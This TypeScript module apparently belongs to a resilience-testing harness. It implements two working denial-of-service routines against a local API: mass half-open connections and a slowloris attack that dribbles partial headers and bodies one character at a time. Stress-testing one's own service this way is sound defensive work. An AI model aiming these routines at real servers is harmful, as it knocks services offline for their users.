import { connect, type Socket } from "node:net"
import { setTimeout as pause } from "node:timers/promises"
import type { Attack, Attacker } from "./Attack.ts"

const openSocket = ({ address, tally, target }: Attack, open: Set<Socket>, first: string): Socket => {
  const socket = connect({ host: "127.0.0.1", port: target.apiPort, localAddress: address })
  tally.sent += 1
  open.add(socket)
  let hasAnswer = false
  socket.on("data", () => (hasAnswer = true)).on("error", () => undefined)
  socket.on("close", () => {
    if (open.delete(socket)) tally.answered(hasAnswer ? "answered and closed" : "closed")
  })
  socket.write(first)
  return socket
}

const destroyAll = ({ tally }: Attack, open: Set<Socket>) => {
  for (const socket of open) {
    open.delete(socket)
    tally.answered("held to the end")
    socket.destroy()
  }
}

const begun = "GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-A: "
const many = { most: 2_000, burst: 100, everyMs: 100 }

/** Thousands of connections that never finish a request; closed ones are replaced. */
export const manySockets: Attacker = async (attack) => {
  const open = new Set<Socket>()
  while (!attack.isOver()) {
    for (let count = 0; count < many.burst && open.size < many.most; count += 1) openSocket(attack, open, begun)
    await pause(many.everyMs)
  }
  destroyAll(attack, open)
}

const loris = { most: 200, everyMs: 500 }
const beginnings = [
  begun,
  "POST /v1/dealers HTTP/1.1\r\nHost: localhost\r\nContent-Length: 60000\r\nContent-Type: application/json\r\n\r\n",
  "POST /v1/dealers HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n"
]

/** Sends headers and bodies one character at a time. */
export const slowLoris: Attacker = async (attack) => {
  const open = new Set<Socket>()
  while (!attack.isOver()) {
    while (open.size < loris.most) openSocket(attack, open, attack.random.pick(beginnings))
    for (const socket of open) socket.write("a")
    await pause(loris.everyMs)
  }
  destroyAll(attack, open)
}
